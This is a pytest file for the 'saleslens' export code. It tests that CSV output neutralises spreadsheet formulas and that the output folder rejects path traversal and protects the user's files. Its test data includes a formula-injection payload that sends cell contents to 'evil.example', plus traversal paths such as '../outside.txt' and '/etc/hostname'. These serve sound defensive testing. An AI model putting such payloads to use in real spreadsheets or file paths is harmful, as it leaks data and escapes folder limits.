"""What the offline main job exports to --out: the quarantine zone as files a person can open
(a file rejected whole included), spreadsheet-safe CSVs, and never a file saleslens did not write."""
from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path
from typing import Callable, Dict, List

import pyarrow as pa
import pytest

from saleslens.offline import OfflineAws
from saleslens.offline.main_job import export
from saleslens.offline.outdir import MANIFEST, OutDir, OutDirError
from saleslens.spreadsheet import neutralise_formulas, spreadsheet_csv


# -- formula cells ---------------------------------------------------------------------------------
def test_formula_leading_text_cells_are_quoted_and_numbers_stay_numbers():
    table = pa.table({
        "raw": ['=HYPERLINK("http://evil.example/?"&A1)', "-2+3", "+1", "@SUM(A1)", "\t=1", "\r=1", "a=b", "", None],
        "amount": [-12.5, -2.0, 3.0, 0.0, 1.5, 2.5, 4.0, 5.0, 6.0],  # a numeric column: written as numbers
        "line": pa.array([1, 2, 3, 4, 5, 6, 7, 8, 9], pa.int64()),
    })
    rows = list(csv.DictReader(io.StringIO(spreadsheet_csv(table).decode())))
    assert [r["raw"] for r in rows] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'-2+3", "'+1", "'@SUM(A1)", "'\t=1",
                                        "'\r=1", "a=b", "", ""]
    assert [r["amount"] for r in rows][:2] == ["-12.5", "-2"]
    assert [r["line"] for r in rows] == [str(i) for i in range(1, 10)]


def test_neutralising_decodes_dictionary_columns_and_leaves_the_input_alone():
    raw = pa.array(["=1+1", "ok", "=1+1"]).dictionary_encode()
    table = pa.table({"v": raw})
    assert neutralise_formulas(table).column("v").to_pylist() == ["'=1+1", "ok", "'=1+1"]
    assert table.column("v").to_pylist() == ["=1+1", "ok", "=1+1"]  # the lake's values are not touched


# -- the --out folder ------------------------------------------------------------------------------
def _files(named: Dict[str, bytes]) -> Dict[str, Callable[[], bytes]]:
    return {path: (lambda body=body: body) for path, body in named.items()}


def _tree(root: Path) -> List[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def test_a_run_replaces_only_what_the_last_run_wrote(tmp_path):
    OutDir.open(tmp_path).replace(_files({"reports/daily/d1/a.html": b"a1", "outbox/00001.eml": b"m1", "summary.json": b"s1"}))
    (tmp_path / "reports" / "daily" / "mine.txt").write_text("keep")
    (tmp_path / "outbox" / "notes.txt").write_text("keep")
    (tmp_path / "reports" / "daily" / "d1" / "also-mine.txt").write_text("keep")

    OutDir.open(tmp_path).replace(_files({"reports/daily/d2/a.html": b"a2", "outbox/00001.eml": b"m2"}))

    assert _tree(tmp_path) == [MANIFEST, "outbox/00001.eml", "outbox/notes.txt", "reports/daily/d1/also-mine.txt",
                               "reports/daily/d2/a.html", "reports/daily/mine.txt"]
    assert (tmp_path / "outbox" / "00001.eml").read_bytes() == b"m2"
    assert json.loads((tmp_path / MANIFEST).read_text())["files"] == ["outbox/00001.eml", "reports/daily/d2/a.html"]


def test_emptied_folders_of_the_last_run_go_and_out_itself_stays(tmp_path):
    OutDir.open(tmp_path).replace(_files({"reports/daily/d1/p1/a.html": b"a"}))
    OutDir.open(tmp_path).replace({})
    assert _tree(tmp_path) == [MANIFEST] and not (tmp_path / "reports").exists() and tmp_path.is_dir()


def test_a_file_of_the_users_where_a_run_would_write_stops_it_before_anything_changes(tmp_path):
    OutDir.open(tmp_path).replace(_files({"reports/old.html": b"old"}))
    (tmp_path / "summary.json").write_text("my summary")
    before = _tree(tmp_path)
    with pytest.raises(OutDirError, match=r"summary\.json exists and saleslens did not write it; move it away"):
        OutDir.open(tmp_path).replace(_files({"reports/new.html": b"new", "summary.json": b"ours"}))
    assert _tree(tmp_path) == before and (tmp_path / "summary.json").read_text() == "my summary"


def test_a_file_where_a_run_needs_a_folder_stops_it(tmp_path):
    OutDir.open(tmp_path).replace(_files({"reports/a.html": b"a"}))
    (tmp_path / "outbox").write_text("a file, not a folder")
    with pytest.raises(OutDirError, match=r": outbox exists and saleslens did not write it; move it away"):
        OutDir.open(tmp_path).replace(_files({"outbox/00001.eml": b"m"}))
    assert (tmp_path / "outbox").read_text() == "a file, not a folder"


def test_more_files_of_the_same_run_join_the_manifest(tmp_path):
    OutDir.open(tmp_path).replace(_files({"reports/a.html": b"a"}))
    OutDir.open(tmp_path).add(_files({"summary.json": b"s"}))
    assert json.loads((tmp_path / MANIFEST).read_text())["files"] == ["reports/a.html", "summary.json"]


@pytest.mark.parametrize("listed", [["../outside.txt"], ["/etc/hostname"], ["reports/../../outside.txt"]])
def test_a_manifest_cannot_make_a_run_delete_outside_out(tmp_path, listed):
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "outside.txt").write_text("keep")
    (out / MANIFEST).write_text(json.dumps({"written_by": "saleslens", "files": listed}))
    with pytest.raises(OutDirError, match="it would leave the folder"):
        OutDir.open(out)
    assert (tmp_path / "outside.txt").read_text() == "keep"


def test_an_object_key_cannot_make_a_run_write_outside_out(tmp_path):
    with pytest.raises(OutDirError, match="it would leave the folder"):
        OutDir.open(tmp_path / "out").replace(_files({"reports/../../escaped.html": b"x"}))
    assert not (tmp_path / "escaped.html").exists()


def test_an_unreadable_manifest_is_named(tmp_path):
    (tmp_path / MANIFEST).write_text("{not json")
    with pytest.raises(OutDirError, match=r"\.saleslens-manifest\.json is unreadable"):
        OutDir.open(tmp_path)


# -- export from the embedded AWS ------------------------------------------------------------------
HEADER = b"invoice_no,line_no,invoice_date,stockist_code,sku,billed_qty,free_qty,price_to_stockist,trade_discount\n"
DRIFTED_KEY = "erp/primary_invoices/dt=2026-11-20/ERP_INV_20261120.csv"
DRIFTED = HEADER.replace(b"billed_qty", b"qty_billed") + b"INV202611200001,1,2026-11-20,STK00001,SKU00001,10,1,100.00,50.00\n"
ROWS_KEY = "erp/primary_invoices/dt=2026-11-21/ERP_INV_20261121.csv"
GOOD = b"".join(f"INV2026112100{i:02d},1,2026-11-21,STK0000{i % 3 + 1},SKU0000{i % 3 + 1},{i + 1},0,10.00,0.00\n".encode()
                for i in range(1, 9))
FORMULAS = (b'"=HYPERLINK(""http://evil.example/?""&A1)",1,2026-11-21,STK00001,SKU00001,10,0,10.00,0.00\n'
            b"INV202611210099,1,2026-11-21,STK00001,SKU00001,-2+3,0,10.00,0.00\n")


@pytest.fixture(scope="module")
def aws():
    logging.getLogger("moto").setLevel(logging.CRITICAL)
    with OfflineAws() as runtime:
        whole = runtime.ingest(runtime.put_landing_file(DRIFTED_KEY, DRIFTED), received_at="2026-11-21T02:00:00Z")
        rows = runtime.ingest(runtime.put_landing_file(ROWS_KEY, HEADER + GOOD + FORMULAS), received_at="2026-11-22T02:00:00Z")
        assert (whole.status, whole.error) == ("FAILED", "FileQuarantined")
        assert rows.status == "SUCCEEDED" and runtime.ledger(rows.name)["rows_quarantined"] == 2
        yield runtime


def _csv_rows(path: Path) -> List[Dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text())))


def test_a_file_rejected_whole_is_listed_with_its_reason_and_its_bytes_kept(aws, tmp_path):
    counts = export(aws, tmp_path)  # raised ArrowInvalid on the whole file's CSV bytes

    [listed] = _csv_rows(tmp_path / "quarantine" / "files.csv")
    assert (listed["landing_key"], listed["error"]) == (DRIFTED_KEY, "SchemaDriftError")
    assert "qty_billed" in listed["reason"] and listed["run_id"]
    assert listed["exported_as"] == "quarantine/files/erp__primary_invoices__dt=2026-11-20__ERP_INV_20261120.csv.rejected"
    assert (tmp_path / listed["exported_as"]).read_bytes() == DRIFTED
    assert counts["quarantine_files"] == 3  # the rows' CSV, files.csv and the rejected file's bytes


def test_rejected_rows_are_exported_spreadsheet_safe(aws, tmp_path):
    export(aws, tmp_path)
    [rejects] = (tmp_path / "quarantine").glob("erp__primary_invoices__dt=2026-11-21__*.csv")
    rows = sorted(_csv_rows(rejects), key=lambda r: int(r["source_line"]))
    assert [r["source_line"] for r in rows] == ["10", "11"]  # a number column: no quote
    assert rows[0]["invoice_no"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert rows[1]["billed_qty"] == "'-2+3"
    for path in (tmp_path / "quarantine").glob("*.csv"):
        for row in _csv_rows(path):
            assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")], (path.name, row)


def test_a_users_files_under_out_survive_an_export(aws, tmp_path):
    export(aws, tmp_path)
    mine = {tmp_path / "reports" / "my-notes.txt": "keep", tmp_path / "outbox" / "draft.eml": "keep",
            tmp_path / "quarantine" / "analysis.csv": "keep", tmp_path / "elsewhere.txt": "keep"}
    for path, text in mine.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    export(aws, tmp_path)

    assert {p: p.read_text() for p in mine} == mine
    assert (tmp_path / "quarantine" / "files.csv").is_file()


def test_an_export_into_a_folder_of_the_users_own_is_refused_untouched(aws, tmp_path):
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "q3.html").write_text("mine")
    with pytest.raises(OutDirError, match="already holds reports but no .saleslens-manifest.json"):
        export(aws, tmp_path)
    assert _tree(tmp_path) == ["reports/q3.html"]
